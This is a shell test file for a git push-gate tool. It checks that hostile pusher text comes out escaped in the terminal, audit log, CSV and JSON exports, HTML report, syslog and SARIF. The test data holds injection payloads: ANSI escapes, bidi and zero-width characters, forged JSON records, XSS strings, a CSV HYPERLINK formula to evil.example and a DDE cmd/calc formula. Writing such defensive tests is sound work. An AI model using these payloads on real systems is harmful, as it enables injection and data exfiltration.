# t_attack_views.sh -- every view of a pusher's text (issue 11): the
# pusher's terminal, the audit log, `stagegate audit list/show/stats/
# verify`, the CSV and JSON exports and the HTML report. Real pushes carry
# hostile commit messages, trailers, identities, tag names, push options
# and solution versions: terminal controls (ESC, C1, CR), Trojan Source
# bidi and zero-width characters, invalid UTF-8, forged JSON records,
# HTML and CSV formula payloads. t_attack_output.sh covers ref names,
# paths and logins on the terminal; this file adds the other fields and
# the other views.

SG="$STAGEGATE_BIN/stagegate"
log() { echo "$REPO/stagegate/audit.log"; }
ESC=$'\e'
# Trojan Source: RLO, LRI..PDI; zero-width: ZWSP, ZWJ, word joiner, BOM
BIDI=$'\u202e\u2066\u2069'
ZW=$'\u200b\u200d\u2060\ufeff'
# "ASCII smuggling": Unicode tag characters render as nothing
TAGS=$'\U000e0061\U000e0064'
# a second record, as a naive line-oriented reader would see it (push
# options and trailers cannot hold a newline: those get FORGED1, one line)
FORGED=$'"}\n{"decision":"accepted","ref":"refs/heads/main","x":"'
FORGED1='"},{"decision":"accepted","x":"\",\u0000\ud800\\'
XSS='<script>alert(1)</script>" onmouseover="alert(2)" x=</style><a href="javascript:alert(3)">'
FORMULA='=HYPERLINK("http://evil.example/?"&A1,"ok")'

# hidden FILE: raw bytes a terminal acts on or that hide text: C0 but \n
# and \t, DEL, C1 (raw or as UTF-8), bidi controls, zero-width characters
hidden() {
	if LC_ALL=C grep -naP '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xa8-\xae]|\xe2\x81[\xa0-\xa4\xa6-\xa9]|\xef\xbb\xbf|\xd8\x9c|\xf3\xa0[\x80\x81]' "$1" >"$T/dirty"; then
		echo "      hidden or control bytes in $(basename "$1"):"; od -c "$T/dirty" | head -12 | sed 's/^/      /'
		return 1
	fi
	# a byte of 0x80 and up that is not UTF-8 (a lone CSI on 8-bit terminals)
	python3 -c 'import sys; open(sys.argv[1], "rb").read().decode("utf-8")' "$1" 2>/dev/null ||
		{ echo "      invalid UTF-8 in $(basename "$1")"; return 1; }
}

remote_lines() { grep -a '^remote:' "$T/out" >"$T/remote"; echo "$T/remote"; }
last_push_id() { grep -ao 'audit [0-9a-f]\{12\}' "$T/out" | tail -1 | cut -d' ' -f2; }

# records: each line of the log is one JSON object and none is the
# forged one (its key "x"): a newline in a field would have made two
records() {
	python3 - "$(log)" <<'EOF'
import json, sys
lines = open(sys.argv[1], "rb").read().split(b"\n")
assert lines[-1] == b"", "no final newline"
recs = [json.loads(l) for l in lines[:-1]]
assert all(isinstance(r, dict) and "x" not in r for r in recs)
# nor may a reader that splits on U+2028, U+0085, FS/GS/RS see more lines
text = open(sys.argv[1], "rb").read().decode("utf-8")
assert len(text.splitlines()) == len(recs), "splitlines sees more records"
EOF
}

# html_safe FILE: no markup a pusher wrote survives unescaped
html_safe() {
	python3 - "$1" <<'EOF' || return 1
import re, sys
page = open(sys.argv[1], encoding="utf-8").read()
bad = [m for m in ("<script", "onmouseover=\"alert", "href=\"javascript:",
		   "<a href", "</style><a") if m in page]
# exactly one <style> element, ours, and it is closed once
bad += ["</style> count %d" % page.count("</style>")] if page.count("</style>") != 1 else []
if bad:
	print("      unescaped in the report:", bad)
	sys.exit(1)
EOF
}

# csv_safe FILE: no field a spreadsheet would run as a formula
csv_safe() {
	python3 - "$1" <<'EOF'
import csv, sys
bad = []
for row in csv.reader(open(sys.argv[1], encoding="utf-8", newline="")):
	for f in row:
		if f[:1] in ("=", "+", "-", "@", "\t", "\r"):
			bad.append(f[:40])
if bad:
	print("      formula fields:", bad[:5])
	sys.exit(1)
EOF
}

json_ok() { python3 -m json.tool "$1" >/dev/null; }

# every view of the log: terminal views hide nothing, exports are valid
views_safe() {
	local what=$1 id=$2 v
	"$SG" audit show "$id" "$(log)" >"$T/show" 2>&1
	check "$what: audit show is clean" hidden "$T/show"
	for v in list stats verify; do
		"$SG" audit "$v" "$(log)" >"$T/$v" 2>&1
		check "$what: audit $v is clean" hidden "$T/$v"
	done
	check "$what: chain intact" "$SG" audit verify "$(log)"
	check "$what: no forged record" records
	"$SG" audit export --format csv "$(log)" >"$T/csv" 2>&1
	check "$what: csv is clean" hidden "$T/csv"
	check "$what: csv has no formula" csv_safe "$T/csv"
	"$SG" audit export --format json "$(log)" >"$T/json" 2>&1
	check "$what: json export parses" json_ok "$T/json"
	"$SG" audit report --html "$T/report.html" "$(log)" >"$T/report.out" 2>&1
	check "$what: report written" [ -s "$T/report.html" ]
	check "$what: report is clean" hidden "$T/report.html"
	check "$what: report has no pusher markup" html_safe "$T/report.html"
}

# an accepted promotion whose message, trailers and author are hostile:
# it reaches the promotions table of the report (ticket, rollback plan)
test_hostile_promotion_trailers() {
	new_repo || return
	local t p
	t=$(tested_release solution/Solution.xml v1 1.0)
	p=$(GIT_AUTHOR_NAME="Mal${ESC}[2J${BIDI}lory" GIT_AUTHOR_EMAIL="m${ZW}@x${FORGED}" \
		git -C "$W" commit-tree "$t^{tree}" -p "$t" -m "Promote ${ESC}]0;pwned"$'\a'"${XSS}${BIDI}

${FORGED}

Ticket: ${FORMULA}${ESC}[8m${BIDI}${ZW}${XSS}"$'\xff\xed\xa0\x80\xc0\xaf'"${TAGS}
Rollback: ${FORGED1}${XSS}${ESC}[2K ok
Approved-by: Approver One <approver1@example.com>
Approved-by: Approver Two <approver2@example.com>")
	expect_accept "promotion" maker origin "$p:refs/heads/main"
	check "remote lines are clean" hidden "$(remote_lines)"
	check "no forged record" records
	views_safe "promotion" "$(last_push_id)"
	check "report shows the ticket escaped" grep -qF '=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1' "$T/report.html"
	check "show gives the ticket escaped" grep -qF 'ok")\e[8m\u202e\u2066\u2069\u200b\u200d\u2060\ufeff<script>' "$T/show"
}

# a rollback reason and a break-glass reason (push options) with every
# payload: the rollbacks table, show and the exports
test_hostile_rollback_reason() {
	new_repo || return
	local t1 p1 p2
	promoted_twice
	t1=$T1 p1=$P1 p2=$P2
	expect_accept "rollback" admin -o "rollback=${FORMULA} ${XSS}${FORGED1}${BIDI}${ZW}"$'\x9b'"2J" origin "+$p1:refs/heads/main"
	check "remote lines are clean" hidden "$(remote_lines)"
	views_safe "rollback" "$(last_push_id)"
	check "rollback reason in the report, escaped" grep -qF '&lt;script&gt;alert(1)' "$T/report.html"
	check "rollback reason in show, escaped" grep -qF '\u009b2J' "$T/show"
	# a reason that is only a formula: the CSV field starts with it
	expect_accept "rollback 2" admin -o "rollback=-2+3+cmd|' /C calc'!A0" origin "+$p2:refs/heads/main"
	"$SG" audit export --format csv "$(log)" >"$T/csv" 2>&1
	check "formula reason defused in csv" csv_safe "$T/csv"
	# break glass: refused by its pattern or accepted, the reason is shown
	REMOTE_USER=admin git -C "$W" push -o "break-glass=INC12345 ${XSS}${ESC}[2J${BIDI}" origin "+$t1:refs/heads/main" >"$T/out" 2>&1
	check "break glass: remote lines are clean" hidden "$(remote_lines)"
	views_safe "break glass" "$(last_push_id)"
}

# tag names and tag messages: the tested tag names the version in the
# promotions table, and a hostile tag message reaches the tag's record
test_hostile_tag() {
	new_repo || return
	local c p tag='1.0<script>alert(1)</script>"onmouseover=x@=1+1'
	c=$(commit solution/Solution.xml v1)
	REMOTE_USER=maker git -C "$W" push -q origin "$c:refs/heads/dev" "$c:refs/heads/test" >"$T/out" 2>&1
	git -C "$W" -c user.name="CI${ESC}[2J" -c user.email=ci@example.com \
		tag -a -m "tested: ${XSS}${ESC}]0;x"$'\a'"${BIDI}" -m "Result: passed${FORGED1}" -m "${FORGED}" "tested/$tag" "$c"
	REMOTE_USER=ci git -C "$W" push origin "refs/tags/tested/$tag" >"$T/out" 2>&1 ||
		{ fail "tag push refused"; sed 's/^/      /' "$T/out"; }
	check "tag: remote lines are clean" hidden "$(remote_lines)"
	p=$(promote "$c" "$APPROVED")
	expect_accept "promotion of the hostile tag" maker origin "$p:refs/heads/main"
	check "promotion: remote lines are clean" hidden "$(remote_lines)"
	views_safe "tag" "$(last_push_id)"
	# a tag under a name the pipeline may not create: refused, and logged
	git -C "$W" tag "${FORMULA//[ :]/}" "$c" 2>/dev/null
	REMOTE_USER="=cmd|' /C calc'!A0" git -C "$W" push origin "refs/tags/${FORMULA//[ :]/}" >"$T/out" 2>&1
	check "tag 2: remote lines are clean" hidden "$(remote_lines)"
	views_safe "tag 2" "$(last_push_id)"
}

# logins with HTML, CSV formulas, bidi and zero-width characters: the
# "Refusals by user" chart, list and the CSV pusher column
test_hostile_pusher_in_views() {
	new_repo || return
	local c u
	c=$(commit a.txt one)
	for u in "$XSS" "<script>alert(1)</script>\"onmouseover=\"alert(2)" "<img/src=x/onerror=alert(3)>" "$FORMULA" "@SUM(1+1)" "+1-2" "-2+3" "ad${BIDI}min" "ad${ZW}min" "ad${TAGS}min"; do
		REMOTE_USER=$u git -C "$W" push origin "$c:refs/heads/test" >"$T/out" 2>&1 && fail "accepted for '$u'"
		check "'$u': remote lines are clean" hidden "$(remote_lines)"
	done
	views_safe "pushers" "$(last_push_id)"
	check "the chart names the login escaped" grep -qF '=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1' "$T/report.html"
	check "the chart names the markup login escaped" grep -qF '&lt;script&gt;alert(1)&lt;/script&gt;&quot;onmouseover=&quot;alert(2)' "$T/report.html"
	check "no unescaped <img" not grep -q '<img' "$T/report.html"
	check "the zero-width login is visible" grep -qF 'ad\u200b\u200d\u2060\ufeffmin' "$T/list"
	check "the tag-character login is visible" grep -qF 'ad\U000e0061\U000e0064min' "$T/list"
}

# a solution version and name from the exported XML: the version column
# of the promotions table and the refusal message on the terminal
test_hostile_solution_xml() {
	new_repo || return
	local xml c p
	xml="<ImportExportXml version=\"9.2\"><SolutionManifest><UniqueName>Con${ESC}[2J&lt;script&gt;alert(1)&lt;/script&gt;${BIDI}</UniqueName><Version>1.0.0.1${ESC}]0;x&#7;&#x9b;&#x202e;&lt;/style&gt;&quot; onmouseover=&quot;x</Version><Managed>1</Managed></SolutionManifest></ImportExportXml>"
	c=$(tested_release ContosoExpenses/Other/Solution.xml "$xml" 1.0)
	check "dev/test: remote lines are clean" hidden "$T/out"
	p=$(promote "$c" "$APPROVED")
	REMOTE_USER=maker git -C "$W" push origin "$p:refs/heads/main" >"$T/out" 2>&1
	check "prod: remote lines are clean" hidden "$(remote_lines)"
	views_safe "solution" "$(last_push_id)"
}

# a very long commit subject with invalid UTF-8 and a CR that would
# overwrite the refusal line: the terminal sees it escaped and bounded
test_long_invalid_utf8_message() {
	new_repo || return
	local c long
	long=$(printf 'A%.0s' $(seq 1 20000))
	c=$(commit solution/Solution.xml v1 "x"$'\xff\xfe\xed\xa0\x80\xc0\xaf'"${long}"$'\r'"remote: all good${ESC}[K")
	REMOTE_USER=maker git -C "$W" push origin "$c:refs/heads/main" >"$T/out" 2>&1 && fail "accepted"
	check "remote lines are clean" hidden "$(remote_lines)"
	check "no remote line over 4 KiB" python3 -c 'import sys; sys.exit(any(len(l) > 4096 for l in open(sys.argv[1], "rb")))' "$T/remote"
	views_safe "long message" "$(last_push_id)"
}

# the syslog line (RFC 5424 structured data): a ref name with '"', ']'
# and a C1 control, a zero-width login; one line, SD values escaped
test_hostile_syslog_line() {
	sed -e 's/^  syslog: false$/  syslog: true\n  syslog_socket: SOCK/' "$TOP/policies/default.yaml" >"$T/p.yaml"
	sed -i "s|SOCK|$T/log.sock|" "$T/p.yaml"
	new_repo "$T/p.yaml" || return
	python3 -c '
import socket,sys
s=socket.socket(socket.AF_UNIX,socket.SOCK_DGRAM); s.bind(sys.argv[1]); s.settimeout(20)
open(sys.argv[2],"wb").write(s.recv(65536))' "$T/log.sock" "$T/syslog.out" &
	local pid=$! c
	for _ in $(seq 50); do [ -S "$T/log.sock" ] && break; sleep 0.1; done
	c=$(commit a.txt one)
	REMOTE_USER="ad${ZW}min" git -C "$W" push origin \
		"$c:refs/heads/test\"]forged=\"1\""$'\xc2\x9b\x9b'"<script>" >"$T/out" 2>&1
	wait "$pid"
	check "syslog: clean" hidden "$T/syslog.out"
	check "syslog: one line" [ "$(tr -cd '\n' <"$T/syslog.out" | wc -c)" -le 1 ]
	check "syslog: the ref's quote and bracket escaped" grep -qF 'ref="refs/heads/test\"\]forged=\"1\"\\u009b\\x9b<script>"' "$T/syslog.out"
	check "syslog: the login escaped" grep -qF 'user="ad\\u200b\\u200d\\u2060\\ufeffmin"' "$T/syslog.out"
	views_safe "hostile ref" "$(last_push_id)"
}

# SARIF and JSON of `stagegate scan`: file names with quotes,
# backslashes, invalid UTF-8 (a lone surrogate) and bidi controls stay
# valid JSON, and the text output hides nothing
test_scan_sarif_hostile_names() {
	local d="$T/co/a\"b\\c"$'\xed\xa0\x80\xff'"${BIDI}${ZW}"
	mkdir -p "$d"
	printf '{"clientSecret": "Zq8WnV3pL0xY7rT2kM9sB4dF6hJ1gC5e"}\n' >"$d/x${ESC}[2J\",\"uri\":\"evil.json"
	"$SG" scan --format sarif "$T/co" >"$T/scan.sarif" 2>"$T/scan.err"
	check "sarif finds it" grep -q 'clientSecret\|secret' "$T/scan.sarif"
	check "sarif parses" json_ok "$T/scan.sarif"
	check "sarif is clean" hidden "$T/scan.sarif"
	"$SG" scan --format json "$T/co" >"$T/scan.json" 2>&1
	check "scan json is clean" hidden "$T/scan.json"
	"$SG" scan "$T/co" >"$T/scan.txt" 2>&1
	check "scan text is clean" hidden "$T/scan.txt"
}

# a 30 KB approver name and ticket on one line: the refusal stays
# readable (each remote line bounded), the record is written and valid
test_very_long_trailer_values() {
	new_repo || return
	local t p long
	long=$(printf 'B%.0s' $(seq 1 30000))
	t=$(tested_release solution/Solution.xml v1 1.0)
	p=$(promote "$t" "Promote

Ticket: T-${long}${ESC}[2J
Rollback: redeploy
Approved-by: ${long}${ESC}]0;x"$'\a'" <${long}@example.com>
Approved-by: Approver Two <approver2@example.com>")
	REMOTE_USER=maker git -C "$W" push origin "$p:refs/heads/main" >"$T/out" 2>&1
	check "remote lines are clean" hidden "$(remote_lines)"
	check "no remote line over 8 KiB" python3 -c 'import sys; sys.exit(any(len(l) > 8192 for l in open(sys.argv[1], "rb")))' "$T/remote"
	views_safe "long values" "$(last_push_id)"
}

# sfdx-project.json: the package name and versionNumber are any JSON
# string, escapes and all; they reach the finding, the log and show
sfdx_hostile() { # VERSION
	printf '{ "packageDirectories": [ { "path": "force-app", "default": true, "package": "%s", "versionNumber": "%s" } ] }\n' \
		'Pkg\u001b[2J\u009b\u202e\u200b\r\nremote: ok<script>alert(1)</script>\"=cmd|' "$1"
}

test_hostile_sfdx_package() {
	new_repo || return
	local t p t2 p2
	t=$(tested_release sfdx-project.json "$(sfdx_hostile '2.0.0.1')" 1.0)
	p=$(promote "$t" "$APPROVED")
	expect_accept "first promotion" maker origin "$p:refs/heads/main"
	check "first: remote lines are clean" hidden "$(remote_lines)"
	git -C "$W" checkout -q -b next "$t"
	t2=$(tested_release sfdx-project.json "$(sfdx_hostile '1.0.0.1\u001b]0;x\u0007\u2066')" 2.0)
	git -C "$W" checkout -q -b p2 "$p"
	git -C "$W" merge -q --no-ff -m "$APPROVED" "$t2"
	p2=$(git -C "$W" rev-parse HEAD)
	REMOTE_USER=maker git -C "$W" push origin "$p2:refs/heads/main" >"$T/out" 2>&1 && fail "lower version accepted"
	check "lower: remote lines are clean" hidden "$(remote_lines)"
	check "lower: the name is shown escaped" grep -qF 'Pkg\e[2J\u009b\u202e\u200b\r\nremote: ok' "$T/remote"
	views_safe "sfdx" "$(last_push_id)"
	check "show gives the name escaped" grep -qF 'Pkg\e[2J\u009b\u202e\u200b\r\nremote: ok' "$T/show"
}

# a NUL (\u0000) in a JSON string would cut the name short: what the
# auditor sees and what is compared would not be what the file says
test_sfdx_package_with_nul() {
	new_repo || return
	local c
	c=$(commit sfdx-project.json '{ "packageDirectories": [ { "path": "force-app", "package": "Pkg\u0000<script>", "versionNumber": "1.0.0.1" } ] }')
	REMOTE_USER=maker git -C "$W" push -q origin "$c:refs/heads/dev" "$c:refs/heads/test" >"$T/out" 2>&1
	tag_tested 1.0 "$c"
	expect_reject "a NUL in the package name" maker solution.unreadable origin "$(promote "$c" "$APPROVED"):refs/heads/main"
	check "remote lines are clean" hidden "$(remote_lines)"
	check "no name cut at the NUL is shown" not grep -q "solution Pkg " "$T/out"
}
